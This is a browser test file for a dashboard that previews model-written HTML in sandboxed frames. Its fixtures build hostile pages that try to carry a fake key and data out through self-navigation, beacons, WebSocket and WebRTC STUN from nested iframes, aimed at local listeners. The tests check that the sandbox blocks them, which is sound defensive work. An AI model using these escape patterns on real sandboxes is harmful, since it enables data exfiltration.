"""Dashboard previews in real Debian chromium: hostile pages stay in their box, offline, and every model shows whole.

Each hostile page aims at loopback listeners (TCP for navigations and beacons, UDP for STUN) that must
receive nothing; the fitting test lays 3, 5 and 8 previews side by side at 1440×900 and looks at them.
"""

from __future__ import annotations

import contextlib
import io
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from canvasbench.sandbox.mirror import load_mirror
from canvasbench.store import RunStore
from tests import browser_helpers
from tests.browser_helpers import CHROMIUM, ROOT, AppServer, seed_comparison

pytestmark = [pytest.mark.browser, pytest.mark.timeout(400)]
sync_api = pytest.importorskip("playwright.sync_api")
if not Path(CHROMIUM).exists():
    pytest.skip("Debian chromium is not installed (apt-get install chromium)", allow_module_level=True)

ARTIFACTS = ROOT / "test-artifacts"


class Listeners:
    """A TCP and a UDP socket on 127.0.0.1 that record whatever reaches them."""

    def __init__(self) -> None:
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(64)
        self.tcp.settimeout(0.2)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.tcp_port = self.tcp.getsockname()[1]
        self.udp_port = self.udp.getsockname()[1]
        self.connections: list[bytes] = []
        self.datagrams: list[bytes] = []
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=f, daemon=True) for f in (self._accept, self._receive)]
        for thread in self._threads:
            thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.tcp.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.connections.append(conn.recv(2048))
                except OSError:
                    self.connections.append(b"")

    def _receive(self) -> None:
        while not self._stop.is_set():
            try:
                self.datagrams.append(self.udp.recv(2048))
            except (TimeoutError, OSError):
                continue

    def received(self) -> dict[str, int]:
        """How many TCP connections and UDP datagrams arrived."""
        return {"tcp": len(self.connections), "udp": len(self.datagrams)}

    def stop(self) -> None:
        """Stop both threads and close the sockets."""
        self._stop.set()
        for thread in self._threads:
            thread.join(2)
        self.tcp.close()
        self.udp.close()


def _navigations(leak: str) -> list[tuple[str, str]]:
    """One hostile page per way a document can navigate itself, each carrying data out in the URL."""
    body = "<!doctype html><html><head><title>{0}</title>{1}</head><body><h1>{0}</h1>{2}</body></html>"
    later = "<script>setTimeout(function () {{ {0} }}, 300)</script>"
    return [
        ("location.href", body.format("href", "", later.format(f"location.href = '{leak}?via=href&key=sk-1';"))),
        ("location.replace", body.format("replace", "", later.format(f"location.replace('{leak}?via=replace');"))),
        ("meta refresh", body.format("meta", f'<meta http-equiv="refresh" content="0;url={leak}?via=meta">', "")),
        (
            "form submit",
            body.format(
                "form",
                "",
                f'<form id="f" action="{leak}" method="get"><input name="via" value="form"></form>'
                + later.format("document.getElementById('f').submit();"),
            ),
        ),
        ("window.open _self", body.format("open", "", later.format(f"window.open('{leak}?via=open', '_self');"))),
        (
            "a target=_self",
            body.format(
                "anchor",
                "",
                f'<a id="a" href="{leak}?via=anchor" target="_self">go</a>'
                + later.format("document.getElementById('a').click();"),
            ),
        ),
    ]


def _beacons(tcp: int) -> str:
    """A page that tries every kind of subresource at the listener, plus fetch and a WebSocket."""
    http, https = f"http://127.0.0.1:{tcp}", f"https://127.0.0.1:{tcp}"
    return f"""<!doctype html><html><head><title>beacons</title>
<link rel="stylesheet" href="{https}/style.css"><link rel="stylesheet" href="{http}/style2.css">
<link rel="preload" as="image" href="{https}/preload.png"><link rel="prefetch" href="{https}/prefetch">
<script src="{https}/script.js"></script>
<style>@font-face {{ font-family: x; src: url({https}/font.woff2); }} body {{ font-family: x;
  background-image: url({http}/bg.png); }}</style>
</head><body><h1>beacons</h1>
<img src="{https}/pixel.png"><img src="{http}/pixel2.png"><video src="{https}/v.mp4"></video>
<script>
fetch("{http}/fetch").catch(function () {{}});
try {{ new WebSocket("ws://127.0.0.1:{tcp}/ws"); }} catch (e) {{}}
try {{ navigator.sendBeacon("{http}/beacon", "x"); }} catch (e) {{}}
try {{ new EventSource("{http}/es"); }} catch (e) {{}}
</script></body></html>"""


def _libraries() -> str:
    """Three.js from two CDNs, as an import map module and as an old global build, reporting what loaded."""
    return """<!doctype html><html><head><title>libraries</title>
<script type="importmap">{"imports": {"three": "https://unpkg.com/three@0.170.0/build/three.module.js",
  "three/addons/": "https://cdn.jsdelivr.net/npm/three@0.170.0/examples/jsm/"}}</script>
<script src="https://cdnjs.cloudflare.com/ajax/libs/three.js/r128/three.min.js"></script>
<script>window.__classic = window.THREE ? THREE.REVISION : "missing";</script>
</head><body><h1 id="out">loading</h1>
<script type="module">
import * as THREE from "three";
import { OrbitControls } from "three/addons/controls/OrbitControls.js";
const text = "module " + THREE.REVISION + " / classic " + window.__classic + " / addon " + typeof OrbitControls;
document.getElementById("out").textContent = text;
window.top.postMessage({canvasbenchLibraries: text}, "*");
</script></body></html>"""


def _webrtc(udp: int) -> str:
    """STUN to the UDP listener from the page itself and from nested frames made every way we know."""
    stun = (
        "try { var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});"
        " pc.createDataChannel('x'); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });"
        " top.postMessage({canvasbenchRtc: 'ESCAPED ' + location.href}, '*'); }"
        " catch (e) { top.postMessage({canvasbenchRtc: 'blocked ' + e.name}, '*'); }"
    ).replace("PORT", str(udp))
    child = f"<script>{stun}</script>"
    quoted = child.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    js_child = child.replace("</", "<\\/").replace("'", "\\'")
    return f"""<!doctype html><html><head><title>webrtc</title></head><body><h1>webrtc</h1>
<script>{stun}</script>
<iframe srcdoc="{quoted}"></iframe>
<div id="d"></div><div id="host"></div>
<script>
var f = document.createElement("iframe"); f.srcdoc = '{js_child}'; document.body.appendChild(f);
document.getElementById("d").innerHTML = '<iframe srcdoc="{quoted.replace("'", "&#39;")}"></iframe>';
var root = document.getElementById("host").attachShadow({{mode: "closed"}});
var g = document.createElement("iframe"); g.srcdoc = '{js_child}'; root.appendChild(g);
try {{ var k = window.webkitRTCPeerConnection || window.RTCPeerConnection; new k({{}});
      top.postMessage({{canvasbenchRtc: "ESCAPED alias"}}, "*"); }}
catch (e) {{ top.postMessage({{canvasbenchRtc: "blocked alias " + e.name}}, "*"); }}
</script>
<template shadowrootmode="open"><iframe srcdoc="{quoted}"></iframe></template>
</body></html>"""


# Four coloured markers in the corners of a 1280×800 page: a preview shows the whole page when all four show.
CORNERS = """<!doctype html><html><head><title>corners</title><style>
html, body { margin: 0; width: 100%; height: 100%; background: #ffffff; overflow: hidden; }
.m { position: fixed; width: 90px; height: 90px; }
</style></head><body>
<div class="m" style="left:0;top:0;background:#ff0000"></div>
<div class="m" style="right:0;top:0;background:#00c000"></div>
<div class="m" style="left:0;bottom:0;background:#0000ff"></div>
<div class="m" style="right:0;bottom:0;background:#ff00ff"></div>
<p style="position:absolute;left:45%;top:45%;font:40px sans-serif">1280 × 800</p>
<script>document.querySelector("p").textContent = innerWidth + " × " + innerHeight;</script>
</body></html>"""
MARKERS = {"top-left": (255, 0, 0), "top-right": (0, 192, 0), "bottom-left": (0, 0, 255), "bottom-right": (255, 0, 255)}


def _marker_corners(png: bytes) -> dict[str, bool]:
    """For each corner, whether its marker colour fills the matching corner region of the screenshot."""
    image = Image.open(io.BytesIO(png)).convert("RGB")
    w, h = image.size
    spots = {
        "top-left": (0.02, 0.02),
        "top-right": (0.98, 0.02),
        "bottom-left": (0.02, 0.98),
        "bottom-right": (0.98, 0.98),
    }
    found = {}
    for name, (fx, fy) in spots.items():
        pixel = image.getpixel((min(int(fx * w), w - 1), min(int(fy * h), h - 1)))
        assert isinstance(pixel, tuple)
        found[name] = all(abs(a - b) < 60 for a, b in zip(pixel, MARKERS[name], strict=False))
    return found


@pytest.fixture(scope="module")
def listeners() -> Iterator[Listeners]:
    ears = Listeners()
    yield ears
    ears.stop()


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory, listeners: Listeners) -> Iterator[dict[str, Any]]:
    """The dashboard over a database of hostile comparisons and corner pages (no provider is called)."""
    tmp = tmp_path_factory.mktemp("preview")
    store = RunStore(tmp / "preview.db")
    leak = f"http://127.0.0.1:{listeners.tcp_port}/leak"
    navs = _navigations(leak)
    ids = {
        "navigation": seed_comparison(
            store,
            title="Navigation attempts",
            models=tuple(f"openai:nav-{i}" for i in range(len(navs))),
            artifacts=[("html", page) for _, page in navs],
        )[0],
        "beacons": seed_comparison(
            store, title="Beacons", models=("openai:beacons",), artifacts=[("html", _beacons(listeners.tcp_port))]
        )[0],
        "libraries": seed_comparison(
            store, title="Libraries", models=("openai:libraries",), artifacts=[("html", _libraries())]
        )[0],
        "webrtc": seed_comparison(
            store, title="WebRTC", models=("openai:webrtc",), artifacts=[("html", _webrtc(listeners.udp_port))]
        )[0],
    }
    for n in (3, 5, 8):
        ids[f"fit-{n}"] = seed_comparison(
            store,
            title=f"Corners {n}",
            models=tuple(f"openai:corners-{i}" for i in range(n)),
            artifacts=[("html", CORNERS)] * n,
        )[0]
    env = {
        "CANVASBENCH_DB": str(store.path),
        "CANVASBENCH_PRICES": str(tmp / "prices.toml"),
        "CANVASBENCH_ENDPOINTS": str(tmp / "endpoints.toml"),
    }
    server = AppServer(env, log=tmp / "streamlit.log")
    try:
        server.wait_ready()
        yield {"url": server.url, "ids": ids, "navigations": [name for name, _ in navs]}
    finally:
        server.stop()


browser = browser_helpers.browser  # one Chromium for the module


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    context.add_init_script(
        "window.__messages = []; window.addEventListener('message', e => {"
        " if (e.data && typeof e.data === 'object' && !e.data.type) window.__messages.push(e.data); });"
    )
    pg = context.new_page()
    pg.set_default_timeout(60_000)
    try:
        yield pg
    finally:
        context.close()


def _open(page: Any, app: dict[str, Any], key: str, title: str) -> None:
    page.goto(f"{app['url']}/comparison?comparison={app['ids'][key]}")
    page.get_by_role("heading", name=title).wait_for(timeout=90_000)


def _outer_frames(page: Any) -> list[Any]:
    """The previews' outer documents (ours), children of the app page."""
    return [f for f in page.frames if f.parent_frame == page.main_frame and f.query_selector("#box")]


def _wait_frames(page: Any, count: int) -> list[Any]:
    deadline = time.monotonic() + 40
    frames: list[Any] = []
    while time.monotonic() < deadline:
        with contextlib.suppress(sync_api.Error):
            frames = _outer_frames(page)
            if len(frames) >= count:
                return frames
        page.wait_for_timeout(300)
    raise AssertionError(f"expected {count} previews, found {len(frames)}")


def _shot(page: Any, name: str) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    page.wait_for_timeout(800)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)


def test_a_page_that_navigates_itself_is_blocked_and_a_notice_takes_its_place(
    app: dict[str, Any], page: Any, listeners: Listeners
) -> None:
    target = f"{app['url']}/comparison?comparison={app['ids']['navigation']}"
    _open(page, app, "navigation", "Navigation attempts")
    before = listeners.received()
    frames = _wait_frames(page, len(app["navigations"]))
    deadline = time.monotonic() + 30
    notices: list[str] = []
    while time.monotonic() < deadline:
        notices = []
        for frame in _outer_frames(page):
            with contextlib.suppress(sync_api.Error):
                notice = frame.query_selector(".notice")
                if notice:
                    notices.append(notice.inner_text())
        if len(notices) == len(frames):
            break
        page.wait_for_timeout(300)
    page.wait_for_timeout(2000)  # time for any request that did get out to arrive
    _shot(page, "preview-navigation-blocked")
    assert len(notices) == len(app["navigations"]), f"a notice for each of {app['navigations']}: {notices}"
    for text in notices:
        assert "This page tried to navigate to" in text and "blocked" in text
    assert any(f"127.0.0.1:{listeners.tcp_port}" in text for text in notices), notices
    # No preview frame holds anything but our notice or the srcdoc: nothing left its document.
    for frame in _outer_frames(page):
        assert frame.query_selector("iframe") is None
    # Chromium opens a bare connection to a blocked navigation's origin before it applies frame-src
    # (README, security): nothing may be sent on it, so no URL, query or form data reaches the listener.
    heard = listeners.connections[before["tcp"] :]
    assert all(data == b"" for data in heard), f"the listener heard: {heard}"
    assert page.url == target and len(page.context.pages) == 1


def test_previews_are_offline_but_libraries_come_from_the_mirror(
    app: dict[str, Any], page: Any, listeners: Listeners
) -> None:
    before = listeners.received()
    _open(page, app, "beacons", "Beacons")
    _wait_frames(page, 1)
    page.wait_for_timeout(4000)
    assert listeners.received()["tcp"] == before["tcp"], f"a beacon got out: {listeners.connections}"

    if load_mirror().empty:
        pytest.skip("the library mirror is not built (python3 dev.py setup builds it)")
    _open(page, app, "libraries", "Libraries")
    page.wait_for_function("() => window.__messages.some(m => m.canvasbenchLibraries)", timeout=30_000, polling=200)
    loaded = next(m["canvasbenchLibraries"] for m in page.evaluate("window.__messages") if "canvasbenchLibraries" in m)
    assert loaded == "module 170 / classic 128 / addon function", loaded
    _shot(page, "preview-libraries-offline")


def test_webrtc_is_stopped_in_the_preview_and_its_nested_frames(
    app: dict[str, Any], page: Any, listeners: Listeners
) -> None:
    before = listeners.received()
    _open(page, app, "webrtc", "WebRTC")
    _wait_frames(page, 1)
    page.wait_for_function(
        "() => window.__messages.filter(m => m.canvasbenchRtc).length >= 2", timeout=30_000, polling=200
    )
    page.wait_for_timeout(4000)
    reports = [m["canvasbenchRtc"] for m in page.evaluate("window.__messages") if "canvasbenchRtc" in m]
    assert reports and all(r.startswith("blocked") for r in reports), reports
    assert listeners.received()["udp"] == before["udp"], "a STUN packet reached the listener"
    assert listeners.received()["tcp"] == before["tcp"]


@pytest.mark.parametrize("n", [3, 5, 8])
def test_every_preview_shows_the_whole_artifact_and_stays_in_its_card(app: dict[str, Any], page: Any, n: int) -> None:
    _open(page, app, f"fit-{n}", f"Corners {n}")
    frames = _wait_frames(page, n)
    page.wait_for_timeout(1500)
    _shot(page, f"preview-fit-{n}")
    for frame in frames:
        element = frame.frame_element()
        element.scroll_into_view_if_needed()
        corners = _marker_corners(element.screenshot())
        assert all(corners.values()), f"corners not shown: {corners}"
        # The artifact was laid out at the desktop viewport, not at the column's width.
        inner = frame.child_frames[0]
        assert inner.evaluate("() => [innerWidth, innerHeight]") == [1280, 800]
    # Each preview stays inside its card (the bordered container around the model's column).
    spills = page.evaluate(
        """() => [...document.querySelectorAll('iframe[data-testid="stIFrame"]')].map(frame => {
             let card = frame.parentElement;
             while (card && parseFloat(getComputedStyle(card).borderTopWidth) === 0) card = card.parentElement;
             const f = frame.getBoundingClientRect(), c = card.getBoundingClientRect();
             return {inside: f.left >= c.left - 1 && f.right <= c.right + 1 && f.width > 100,
                     frame: [f.left, f.right], card: [c.left, c.right]};
           })"""
    )
    assert len(spills) == n and all(s["inside"] for s in spills), spills


def test_full_screen_shows_the_artifact_alone_and_escape_returns(app: dict[str, Any], page: Any) -> None:
    _open(page, app, "fit-3", "Corners 3")
    frame = _wait_frames(page, 3)[0]
    frame.click(".fs")
    try:
        frame.wait_for_function("() => document.fullscreenElement && document.fullscreenElement.id === 'box'")
    except sync_api.Error:
        _shot(page, "preview-fullscreen-failed")
        why = frame.evaluate("() => document.querySelector('.fs').title")
        raise AssertionError(f"not full screen: {why}") from None
    inner = frame.child_frames[0]
    screen = page.evaluate("() => [innerWidth, innerHeight]")
    try:  # the artifact runs in its own process: its viewport follows the wrapper's a moment later
        inner.wait_for_function("s => innerWidth === s[0] && innerHeight === s[1]", arg=screen, timeout=30_000)
    except sync_api.Error:
        raise AssertionError(f"artifact viewport in full screen: {_viewport(inner)} != {screen}") from None
    page.screenshot(path=str(ARTIFACTS / "preview-fullscreen.png"))
    assert all(_marker_corners(page.screenshot()).values())
    page.keyboard.press("Escape")
    frame.wait_for_function("() => !document.fullscreenElement")
    try:
        inner.wait_for_function("() => innerWidth === 1280 && innerHeight === 800", timeout=30_000)
    except sync_api.Error:
        raise AssertionError(f"artifact viewport after Escape: {_viewport(inner)} != [1280, 800]") from None


def test_reload_runs_one_artifact_again_from_its_start_and_nothing_else(app: dict[str, Any], page: Any) -> None:
    _open(page, app, "fit-3", "Corners 3")
    frames = _wait_frames(page, 3)
    page.evaluate("() => { window.__same_page = true; }")
    for frame in frames:
        frame.child_frames[0].evaluate("() => { window.__first_run = true; }")
    first = frames[0].child_frames[0]
    frames[0].get_by_role("button", name="Reload").click()  # the preview's own button, in its corner
    deadline = time.monotonic() + 30
    while first in frames[0].child_frames or not frames[0].child_frames:  # the artifact's new frame
        assert time.monotonic() < deadline, "Reload put no new frame in"
        page.wait_for_timeout(100)
    rerun = frames[0].child_frames[0]
    rerun.wait_for_function("() => document.readyState === 'complete'")
    assert rerun.evaluate("() => window.__first_run") is None, "the artifact ran again in a new document"
    assert _viewport(rerun) == [1280, 800]  # laid out and scaled as before
    assert all(f.child_frames[0].evaluate("() => window.__first_run") for f in frames[1:]), "the others kept running"
    assert page.evaluate("() => window.__same_page") is True, "the app page was not reloaded"


def _viewport(frame: Any) -> list[int]:
    """The frame's viewport as [width, height]."""
    return list(frame.evaluate("() => [innerWidth, innerHeight]"))


# The preview's element in the app page and its own box: the height the card gives it, and what it shows.
_FRAME_HEIGHTS = """() => [...document.querySelectorAll('iframe[data-testid="stIFrame"]')].map(f => {
    const box = f.contentDocument && f.contentDocument.getElementById('box');
    return [f.getBoundingClientRect().height, box ? Math.ceil(box.getBoundingClientRect().height) : -1];
})"""
_SAME_HEIGHTS = f"want => JSON.stringify(({_FRAME_HEIGHTS})()) === JSON.stringify(want)"


def _enter_full_screen(frame: Any, how: str) -> None:
    """Enter full screen with the preview's button, by mouse or keyboard; say why when the browser did not."""
    if how == "click":
        frame.click(".fs")
    else:
        frame.press(".fs", "Enter")
    try:
        frame.wait_for_function("() => document.fullscreenElement && document.fullscreenElement.id === 'box'")
    except sync_api.Error:  # the wrapper writes the browser's refusal into the button's title
        why = frame.evaluate("() => [document.fullscreenEnabled, document.querySelector('.fs')?.title]")
        raise AssertionError(f"{how} did not enter full screen (enabled, button title): {why}") from None


def test_leaving_full_screen_gives_the_preview_its_height_back(app: dict[str, Any], page: Any) -> None:
    _open(page, app, "fit-3", "Corners 3")
    frame = _wait_frames(page, 3)[0]
    # A preview is exactly as tall as the artifact scaled to the column (1280×800 at the card's width).
    page.wait_for_function(f"() => ({_FRAME_HEIGHTS})().every(([f, box]) => box > 0 && f === box)")
    before = page.evaluate(_FRAME_HEIGHTS)
    assert 150 < before[0][0] < 500, before
    # Back from full screen, headless Chromium routes clicks by the layout full screen had for as long as the page
    # stays still (seen in ~1 of 10 runs: three clicks 20 s apart all landed in the artifact, which covered the
    # screen), so the second entry uses the keyboard, which goes to the focused button whatever the layout.
    for leave, how in (("Escape", "click"), ("the browser's own exit", "keyboard")):
        _enter_full_screen(frame, how)
        assert page.evaluate("() => innerHeight") == 900
        if leave == "Escape":
            page.keyboard.press("Escape")
        else:  # what the browser does on its own Esc or its "exit full screen" control
            page.evaluate("() => document.exitFullscreen()")
        frame.wait_for_function("() => !document.fullscreenElement")
        try:  # the frame shrinks back to the height it had, with nothing left of full screen's 900 px
            page.wait_for_function(_SAME_HEIGHTS, arg=before, timeout=30_000)
        except sync_api.Error:
            raise AssertionError(f"after {leave}: {page.evaluate(_FRAME_HEIGHTS)} != {before}") from None
